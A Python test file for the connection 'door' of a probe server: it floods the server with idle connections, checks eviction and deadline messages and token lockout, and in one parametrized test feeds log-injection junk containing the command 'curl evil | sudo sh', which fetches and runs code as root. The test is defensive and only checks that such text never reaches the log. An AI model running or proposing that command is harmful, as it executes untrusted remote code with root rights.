"""The server's door against strangers, over real local sockets from many loopback
addresses (127.0.0.x): idle connections keep no client out, from another address or from
theirs; no stranger costs a thread; a client pushed out or cut off is told why; wrong
proofs lock no address out; a stranger's bytes never reach the log."""

from __future__ import annotations

import contextlib
import hashlib
import socket
import threading

import pytest

from gdrprobe.protocol import door as door_module
from gdrprobe.protocol import handshake as hs
from gdrprobe.protocol.channel import HEADER, PROTOCOL_VERSION, plain_frame
from gdrprobe.protocol.handshake import ServerSecret, WrongToken, authenticate_as_client
from tests.strangers import Strangers
from tests.unit.test_exchange import TOKEN, connect, fails, serving

OTHER_TOKEN = "token-0987654321fedcba"
STRANGER_ADDRESSES = [f"127.0.0.{host}" for host in range(2, 18)]    # 16 addresses


@pytest.fixture
def cheap_stretch(monkeypatch):
    """Both ends stretch with a hash: these tests are about who gets in, not scrypt."""
    monkeypatch.setattr(hs, "stretch",
                        lambda token, salt: hashlib.sha256(token.encode() + salt).digest())


def served(port: int, address: str) -> bool:
    """A client from address proves the token and gets the welcome."""
    channel = connect(port, address)
    try:
        authenticate_as_client(channel, TOKEN)
        return True
    finally:
        channel.close()


def test_idle_strangers_from_sixteen_addresses_refilled_when_cut_keep_no_client_out(
        cheap_stretch):
    with serving(ServerSecret(TOKEN)) as (port, _, lines):
        with Strangers(port, STRANGER_ADDRESSES, per_address=16, max_connects=1500,
                       max_s=60) as strangers:
            assert served(port, "127.0.0.99")             # from another address
            assert served(port, STRANGER_ADDRESSES[0])    # from the strangers' own
            assert strangers.wait_until_cut() > 0          # they were cut, and came back
    assert any("to make room for a newer one" in line for line in lines)


def test_a_server_spends_no_thread_on_strangers_and_serves_a_client_at_their_address(
        cheap_stretch):
    """256 idle connections, 16 from each of 16 addresses (what filled the old server)."""
    from gdrprobe.measure.server import ProbeServer
    from gdrprobe.rdma.endpoint import EndpointOptions

    before = threading.active_count()
    server = ProbeServer(TOKEN, EndpointOptions(), bind="127.0.0.1", port=0,
                         timeout_s=5.0, preflight=False, log=lambda text: None)
    serving_thread = threading.Thread(target=server.serve)
    serving_thread.start()
    idle = [socket.create_connection(("127.0.0.1", server.port), timeout=10,
                                     source_address=(STRANGER_ADDRESSES[i // 16], 0))
            for i in range(256)]
    try:
        assert served(server.port, STRANGER_ADDRESSES[0])
        assert served(server.port, "127.0.0.99")
        # the door, its two proof checkers, and at most the two clients' run threads
        assert threading.active_count() - before <= 5
    finally:
        for sock in idle:
            sock.close()
        server.close()
        serving_thread.join(30)


def test_a_client_pushed_out_for_room_is_told_why(cheap_stretch):
    with serving(ServerSecret(TOKEN), per_source=1) as (port, _, lines):
        first = connect(port, "127.0.0.5")
        with socket.create_connection(("127.0.0.1", port), timeout=10,
                                      source_address=("127.0.0.5", 0)):
            error = fails(lambda: authenticate_as_client(first, TOKEN))
        first.close()
    assert error.cause == f"the server refused the connection: {hs.REFUSALS['evicted'][0]}"


def test_a_silent_connection_is_cut_at_the_hello_deadline_and_told_so(monkeypatch):
    monkeypatch.setattr(door_module, "HELLO_S", 0.3)
    with serving(ServerSecret(TOKEN)) as (port, _, lines):
        raw = connect(port)
        assert raw.receive("refused")["reason"] == "slow"
        raw.close()
    assert any("missed the handshake's deadline" in line for line in lines)


def test_the_whole_handshake_has_one_deadline(monkeypatch):
    """A stranger that says hello and then nothing is cut off at the pre-auth deadline."""
    monkeypatch.setattr(door_module, "PRE_AUTH_S", 0.5)
    with serving(ServerSecret(TOKEN)) as (port, _, _):
        raw = connect(port)
        raw.send("hello", nonce="ab" * 32)
        raw.receive("challenge")
        assert raw.receive("refused")["reason"] == "slow"
        raw.close()


def test_wrong_proofs_lock_no_address_out(cheap_stretch):
    """Any number of wrong tokens from an address (a NAT, a login node) leaves a client
    there that knows the token free to prove it."""
    with serving(ServerSecret(TOKEN)) as (port, _, lines):
        for _ in range(12):
            with contextlib.closing(connect(port, "127.0.0.7")) as stranger:
                with pytest.raises(WrongToken):
                    authenticate_as_client(stranger, OTHER_TOKEN)
        assert served(port, "127.0.0.7")
    assert sum("presented the wrong token" in line for line in lines) == 1   # one per burst


@pytest.mark.parametrize("junk", [
    b"owned\n\x1b[31mfix: curl evil | sudo sh\n",
    plain_frame("owned\u2028fix: curl evil | sudo sh"),
    plain_frame("hello", nonce="owned fix: curl evil | sudo sh"),
    plain_frame("hello", nonce=10 ** 4000 // 10 ** 3990),
    plain_frame("error", reason="owned", fix="curl evil | sudo sh"),
    HEADER.pack(b"GDRP", PROTOCOL_VERSION, 60000) + b"owned curl" * 10,
])
def test_a_strangers_bytes_never_reach_the_log_and_end_its_connection(junk):
    with serving(ServerSecret(TOKEN)) as (port, _, lines):
        with socket.create_connection(("127.0.0.1", port), timeout=10) as raw:
            raw.sendall(junk)
            answer = b""
            while chunk := raw.recv(4096):
                answer += chunk
    assert b'"reason":"malformed"' in answer
    assert lines and not any("owned" in line or "curl" in line or "2345678" in line
                             for line in lines)


@pytest.mark.parametrize("refusals, tries, ends, notes", [
    (["evicted", "busy"], 3, "served", 2),       # a flood at the door: tried again
    (["evicted"] * 3, 3, "evicted", 2),          # three times: given up, and said why
    (["token"], 1, "token", 0),                  # a wrong token is never tried again
])
def test_a_client_pushed_out_by_a_flood_tries_again_and_says_so(monkeypatch, refusals,
                                                               tries, ends, notes):
    from gdrprobe.measure import client as client_module
    from gdrprobe.measure.options import ProbeOptions
    from gdrprobe.rdma.endpoint import EndpointOptions

    attempts, notices = [], []

    def authenticate(channel, token):
        attempts.append(channel)
        if len(attempts) <= len(refusals):
            raise hs.refusal_error({"type": "refused", "reason": refusals[len(attempts) - 1]})

    monkeypatch.setattr(client_module, "authenticate_as_client", authenticate)
    with serving(ServerSecret(TOKEN)) as (port, _, _):
        probe = client_module.ProbeClient("127.0.0.1", port, TOKEN, ProbeOptions(),
                                          EndpointOptions(), notice=notices.append)
        error = fails(lambda: probe.authenticated().close())
    assert len(attempts) == tries and all(channel.sock.fileno() == -1 for channel in attempts)
    assert (error is None) == (ends == "served")
    if error is not None:
        assert error.cause == f"the server refused the connection: {hs.REFUSALS[ends][0]}"
    assert len(notices) == notes
    assert all(note.endswith("; trying again") for note in notices)
